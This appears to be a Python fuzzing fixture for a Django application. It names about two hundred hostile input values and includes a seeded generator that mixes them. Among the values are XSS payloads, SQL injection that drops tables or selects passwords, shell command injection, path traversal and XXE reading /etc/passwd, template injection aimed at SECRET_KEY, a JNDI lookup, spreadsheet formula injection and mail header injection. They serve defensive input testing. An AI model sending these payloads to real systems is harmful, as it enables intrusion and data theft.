"""Two hundred hostile values with a name, and as many more as one asks."""

import random
from collections.abc import Sequence

from django.db import connection

MARK = "<script>alert(7)</script>"
REGION_OF_SOMEBODY_ELSE = "999999"
Value = str | bytes | list[str]

BY_DAY: dict[str, Value] = {
    "empty": "",
    "spaces": "   ",
    "line breaks": "\r\n\r\n",
    "nul": "a\x00b",
    "only nul": "\x00",
    "other control characters": "\x01\x08\x0b\x1b[31m\x7f\x85",
    "100,000 letters": "x" * 100_000,
    "four bytes": "👩\u200d🏫🦄" * 3,
    "right to left": "\u202etxt.exe\u2066",
    "no letters at all": "\u200b\ufeff\u2028\u2029",
    "half a pair": b"\xed\xa0\x80",
    "not utf-8": b"\xff\xfe\xc3\x28",
    "composed": "e\u0301" * 40 + "\ufb03",
    "header": "naam\r\nBcc: iemand@elders.example\r\n\r\nDag",
    "address with header": "iemand@elders.example\r\nBcc: iemand@elders.example",
    "two addresses": "iemand@elders.example,nog@elders.example",
    "script": MARK,
    "attribute": '"><img src=x onerror=alert(7)>',
    "quote": "' onfocus='alert(7)",
    "link": "javascript:alert(7)",
    "template": "{{ 7*7 }}{% debug %}",
    "format": "{0.__class__.__mro__}",
    "percent": "%s%n%(programme)s",
    "shell": "$(id)`id`;id|id",
    "sql": "' OR 1=1; DROP TABLE people_person; --",
    "like": "%_\\",
    "path": "../../../../etc/passwd",
    "formula": '=HYPERLINK("http://elders.example")',
    "json": '{"a": [1, {"__proto__": 1}]}',
    "deep json": "[" * 50_000,
    "half a pair in json": '[{"name": "\\ud800", "what": "\\u0000"}]',
    "rows": '[{"unknown": [[[]]]}, {"name": {"a": 1}}]',
    "zero": "0",
    "negative": "-1",
    "huge": "9" * 400,
    "more digits than a number may have": "9" * 5_000,
    "64 bits": "9223372036854775808",
    "infinite": "1e309",
    "tiny": "1e-999999999",
    "not a number": "NaN",
    "snan": "sNaN",
    "decimals": "0.1000000000000000055511151231257827",
    "unicode digits": "١٢٣",
    "superscript": "²",
    "hexadecimal": "0x1F",
    "underscores": "1_000",
    "year 0": "0000-00-00",
    "year 1": "0001-01-01",
    "year 9999": "9999-12-31",
    "no such month": "2026-13-32",
    "no such week": "2025-W53",
    "week of year 0": "0000-W01",
    "week in unicode digits": "٢٠٢٦-W٤٠",
    "no such time": "24:61:61",
    "skipped hour": "02:30",
    "midnight": "00:00",
    "true": "true",
    "on": "on",
    "none": "None",
    "twice": ["1", "2"],
    "five hundred times": [str(number) for number in range(500)],
    "script twice": [MARK, MARK],
    "somebody else's": REGION_OF_SOMEBODY_ELSE,
}
# By night these too.
BY_NIGHT: dict[str, Value] = {
    # Text that is not what it looks like.
    "accents upon accents": "e" + "\u0301\u0323\u0489" * 100,
    "accents alone": "\u0301\u0301",
    "families": "👨\u200d👩\u200d👧\u200d👦" * 50,
    "flags": "🇳🇱🇳",
    "hangul filler": "\u3164",
    "braille blank": "\u2800",
    "soft hyphens": "\u00ad" * 5,
    "tags": "\U000e0001\U000e0041",
    "variation selector": "a\ufe0f",
    "no character": "\ufffe\uffff\U0010ffff",
    "private use": "\ue000\U000f0000",
    "replacement": "\ufffd",
    "next line": "a\x85b",
    "form feed": "a\x0cb\x0bc",
    "hard space": "\u00a0",
    "wide space": "\u3000naam\u3000",
    "vowel separator": "\u180e",
    "arabic": "مرحبا بالعالم",
    "overridden both ways": "\u202d\u202e\u202c\u202c\u202c",
    "dotted capital": "İSTANBUL ıi",
    "kelvin": "\u212a\u017f\u1e9e",
    "final sigma": "ΌΣΟΣ",
    "grows in capitals": "ŉǰΐﬃ" * 40,
    "one long word": "ongeluk" * 200,
    "a thousand lines": "regel\n" * 1_000,
    "lone returns": "a\rb\r\rc",
    "tabs": "\t\t\t",
    "backspaces": "abc\x08\x08\x08",
    "terminal": "\x1b]0;titel\x07\x1b[2J",
    "bell": "\x07" * 10,
    # Bytes that are no text.
    "overlong nul": b"\xc0\x80",
    "overlong slash": b"..\xc0\xaf..",
    "half of four": b"naam\xf0\x9f\x98",
    "past the end": b"\xf4\x90\x80\x80",
    "two halves": b"\xed\xa0\xbd\xed\xb8\x80",
    "sixteen bits": "naam".encode("utf-16"),
    "latin": "één".encode("latin-1"),
    "chinese": "名字".encode("gbk"),
    "every byte": bytes(range(256)),
    "mark of order": b"\xef\xbb\xbfnaam",
    # Markup.
    "svg": "<svg onload=alert(7)>",
    "frame": '<iframe srcdoc="&lt;script&gt;alert(7)&lt;/script&gt;">',
    "out of a textarea": "</textarea></title></select><svg onload=alert(7)>",
    "out of a comment": "--><svg onload=alert(7)><!--",
    "out of a script": "</script><svg onload=alert(7)>",
    "style": "</style><style>*{display:none}</style>",
    "escaped once": "&lt;script&gt;alert(7)&lt;/script&gt;",
    "escaped twice": "&amp;lt;svg onload=alert(7)&amp;gt;",
    "entity": "&#0;&#x110000;&bogus;&",
    "cdata": "<![CDATA[<svg onload=alert(7)>]]>",
    "entity from outside": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "include of a server": '<!--#exec cmd="id" -->',
    "half a tag": "<a href=",
    "backquote": "`onmouseover=alert(7)",
    "script with a tab": "java\tscript:alert(7)",
    "script in capitals": "JaVaScRiPt:alert(7)",
    "data": "data:text/html,<svg onload=alert(7)>",
    "other site": "//elders.example/",
    "other site by backslash": "/\\elders.example",
    "other site without slashes": "https:elders.example",
    "other site behind an at": "https://voorbeeld.example@elders.example/",
    "markdown": "[klik](javascript:alert(7)) ![x](x)",
    "typesetting": '#panic("x") #read("/etc/passwd") $ ] } \\',
    "latex": "\\input{/etc/passwd}",
    # Words of other languages.
    "settings in a template": "{{ settings.SECRET_KEY }}{% include '/etc/passwd' %}",
    "comment in a template": "{# x #}{% comment %}",
    "dollar and braces": "${7*7}#{7*7}<%= 7*7 %>",
    "lookup": "${jndi:ldap://elders.example/a}",
    "format of a field": "{programme.region.__class__.__init__.__globals__}",
    "half a format": "{",
    "format by number": "{0}{1!r:>9999999}",
    "percent by width": "%9999999d%*d",
    "percent of an address": "%00%2e%2e%2f%c0%af",
    "union": "1 UNION SELECT password FROM accounts_account --",
    "sleep": "'; SELECT pg_sleep(9); --",
    "dollar quote": "$$; DROP TABLE people_person; $$",
    "escape string": "E'\\000'::bytea",
    "extension": "'||load_extension('x')||'",
    "directory": "*)(uid=*))(|(uid=*",
    "operators": '{"$gt": ""}',
    "slow pattern": "a" * 40 + "!",
    "pattern": "(?P<x>.*)+[",
    "glob": "*?[a-z]{1,2}",
    "variable of a shell": "${IFS}$PATH!!",
    "newline in a shell": "a\nid\n",
    "option": "--help",
    "pickle": "\x80\x04\x95.",
    # Spreadsheets, calendars and mail.
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)",
    "formula with minus": "-2+3",
    "formula behind a tab": "\t=1+1",
    "separators": 'a;b,c\td"e',
    "half a quote": '"',
    "event": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y",
    "folded": "x\r\n y",
    "encoded word": "=?utf-8?B?PHNjcmlwdD4=?=",
    "lone dot": "a\r\n.\r\nMAIL FROM:<x@elders.example>",
    "from at the start": "From elders\n>From x",
    "long line": "woord " * 400,
    "cookie": "x\r\nSet-Cookie: sessionid=1",
    # Addresses.
    "address without a point": "a@b",
    "quoted address": '"a b"@elders.example',
    "address in brackets": "Naam <iemand@elders.example>",
    "address by number": "iemand@[127.0.0.1]",
    "address of far": "iemand@домен.example",
    "far address": "иван@elders.example",
    "two ats": "a@b@elders.example",
    "long address": "a" * 64 + "@" + "b" * 180 + ".example",
    "too long address": "a" * 300 + "@elders.example",
    "address with a point at the end": "iemand@elders.example.",
    "address with nul": "iemand@elders.example\x00",
    "mailto": "mailto:iemand@elders.example?bcc=x@elders.example",
    # Numbers.
    "minus zero": "-0",
    "plus": "+1",
    "only a point": ".",
    "half a number": "5.",
    "comma": "1,5",
    "thousands": "1.000,50",
    "wide digits": "１２",
    "a half": "½",
    "roman": "Ⅷ",
    "another minus": "\u2212" + "1",
    "fifteen bits": "32768",
    "thirty-one bits": "2147483648",
    "thirty-one bits below": "-2147483649",
    "power": "1e9",
    # Days and times.
    "no such day": "2026-02-29",
    "leap second": "23:59:60",
    "twenty-four": "24:00",
    "turned around": "29-02-2026",
    "moment": "2026-10-25T02:30:00+02:00",
    "year 10000": "10000-01-01",
    "before the calendar": "1582-10-10",
    "week 0": "2026-W00",
    # What programs send.
    "null": "null",
    "object": "[object Object]",
    "empty list": "[]",
    "deep object": '{"a":' * 20_000,
    "number in json": "[1e400, -0, 1e-400]",
}
VALUES: dict[str, Value] = BY_DAY | BY_NIGHT
# What one kind of database takes and another refuses: all that PostgreSQL is asked, for the pages are the same on both.
UP_TO_THE_DATABASE = (
    "nul", "only nul", "other control characters", "100,000 letters", "four bytes", "half a pair", "not utf-8",
    "composed", "script", "sql", "like", "deep json", "half a pair in json", "negative", "huge",
    "more digits than a number may have", "64 bits", "infinite", "tiny", "not a number", "snan", "decimals", "year 0",
    "year 9999", "somebody else's", "formula",
)  # fmt: skip
TRIED = UP_TO_THE_DATABASE if connection.vendor == "postgresql" else tuple(BY_DAY)


def generated(seed: int, count: int) -> dict[str, Value]:
    """More values, the same for the same seed: pieces of the named ones put together, cut, repeated and mixed up."""
    draw = random.Random(seed)
    texts = [value for value in VALUES.values() if isinstance(value, str) and len(value) < 1_000]
    return {f"number {number} of seed {seed}": _made(draw, texts) for number in range(count)}


def _made(draw: random.Random, texts: Sequence[str]) -> Value:
    kind = draw.randrange(6)
    one, other = draw.choice(texts), draw.choice(texts)
    if kind == 0:
        return one[: draw.randint(0, len(one))] + other
    if kind == 1:
        return one * draw.randint(2, 30)
    if kind == 2:
        return "".join(draw.sample(one, len(one)))
    if kind == 3:
        return "".join(chr(draw.choice(PLANES)(draw)) for _ in range(draw.randint(1, 40)))
    if kind == 4:
        return bytes(draw.randrange(256) for _ in range(draw.randint(1, 40)))
    return [one, other, *draw.sample(texts, draw.randint(0, 4))]


PLANES = (
    lambda draw: draw.randrange(0x80),
    lambda draw: draw.randrange(0x80, 0xD800),
    lambda draw: draw.randrange(0xE000, 0x110000),
)
